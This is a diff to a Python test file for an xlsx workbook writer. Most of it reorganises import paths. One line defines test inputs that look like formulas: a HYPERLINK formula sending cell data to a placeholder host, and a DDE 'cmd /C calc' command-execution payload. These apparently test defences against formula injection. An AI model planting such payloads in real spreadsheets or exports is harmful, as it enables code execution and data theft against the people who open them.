@@ -23,13 +23,13 @@ from oas_program_xlsx.workbook import FIXED_DATE, XlsxWriteError, check_program,
 from tests.strategies import programs
 
 from oas_program import default_program
-from oas_program.canonical import dumps
 from oas_program.cli import cli
-from oas_program.convert import program_from_data, program_to_data
 from oas_program.errors import DataError, ExitCode
-from oas_program.host import PluginHost
+from oas_program.files.canonical import dumps
 from oas_program.model import Program
-from oas_program.tables import layout, table
+from oas_program.model.convert import program_from_data, program_to_data
+from oas_program.model.tables import layout, table
+from oas_program.plugins.host import PluginHost
 
 FORMULA_LIKE = ("=SUM(A1)", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
 
